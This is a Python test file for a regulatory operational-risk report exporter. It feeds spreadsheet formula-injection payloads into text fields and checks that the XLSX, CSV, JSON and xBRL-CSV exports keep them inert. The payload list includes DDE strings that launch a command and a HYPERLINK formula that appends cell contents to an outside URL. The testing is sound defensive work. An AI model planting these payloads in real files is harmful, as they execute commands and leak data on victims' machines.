"""Formula injection through a real export: payloads in titles, descriptions, legal entity
names, org units and source names reach the files as text — never as a formula in the workbook,
escaped (OWASP) in the CSV for people, verbatim in JSON and in the xBRL-CSV facts."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime

import openpyxl

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    'DDE ("cmd";"/C calc";"!A0")A0',
    '=1+1, with a comma and "quotes"\nand a second line',
]
LEI = "529900T8BM49AURSDO55"


def seed(db):
    for i, p in enumerate(PAYLOADS):
        eid = f"INJ-{i}"
        db.report(
            eid,
            actor="ann",
            title=p,
            description=p,
            event_type="ET7.1",
            business_line="BL31",
            legal_entity=p,
            lei=LEI,
            org_unit=p,
            source=p,
            external_id=f"x{i}",
            discovered_on=date(2026, 1, 5),
            currency="EUR",
        )
        db.record_impact(eid, actor="ann", amount=str(200_000 + i), currency="EUR",
                         accounted_on=date(2026, 2, 1 + i))  # fmt: skip


def test_payloads_stay_text_in_every_format(db, clock, tmp_path):
    tmp_path = tmp_path / "out"  # an export folder must be empty (the database file is here)
    clock.jump(datetime(2026, 7, 20, 9, tzinfo=UTC))
    seed(db)
    r = db.reports.export(["c17.02"], "2026-06-30", None, ["xlsx", "csv", "json", "xbrl-csv"],
                          tmp_path, entity=LEI)  # fmt: skip
    # XLSX: no formula anywhere; each payload reads back exactly, as a string
    with zipfile.ZipFile(tmp_path / "oprisk-2026-06-30.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    wb = openpyxl.load_workbook(tmp_path / "oprisk-2026-06-30.xlsx")
    ws = wb["C 17.02"]
    texts = [c for row in ws.iter_rows(min_row=6) for c in row if isinstance(c.value, str)]
    for payload in PAYLOADS:
        p = payload.replace("\r", "\n")  # XML reads a carriage return as a line feed
        hits = [c for c in texts if c.value == p or c.value.startswith(f"{p} — ")]
        assert len(hits) == 3, p  # legal entity, business unit, description (title — description)
        assert all(c.data_type == "s" for c in hits)
    numbers = [
        c.value for row in ws.iter_rows(min_row=6) for c in row if type(c.value) in (int, float)
    ]
    assert 200_000.0 in numbers  # amounts stay numbers
    # CSV for people: payload cells escaped with a leading quote, numbers untouched
    text = (tmp_path / "c_17.02.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [r for r in rows if r["value"].startswith(dangerous) and r["kind"] == "text"]
    entity = {r["row"]: r["value"] for r in rows if r["column"] == "0170"}
    assert entity["INJ-0"] == "'" + PAYLOADS[0] and entity["INJ-3"] == "'-2+3"
    assert entity["INJ-8"] == "'" + PAYLOADS[8]  # quoted by the CSV writer, newline kept
    gross = {r["row"]: r["value"] for r in rows if r["column"] == "0060"}
    assert gross["INJ-0"] == "200000.00"
    # JSON: verbatim
    doc = json.loads((tmp_path / "c_17.02.json").read_text(encoding="utf-8"))
    assert doc["cells"]["INJ-1"]["0170"] == PAYLOADS[1]
    # xBRL-CSV: the facts verbatim (a prefix would change them), and the package validates
    [name] = [n for n in r.files if n.endswith(".zip")]
    assert db.reports.validate(tmp_path / name).ok
    with zipfile.ZipFile(tmp_path / name) as z:
        data = z.read(f"{name[:-4]}/reports/c_17.02.csv").decode("utf-8")
    facts = list(csv.DictReader(io.StringIO(data, newline="")))
    assert {f["factValue"] for f in facts if f["datapoint"] == "dp5486562"} == set(PAYLOADS)
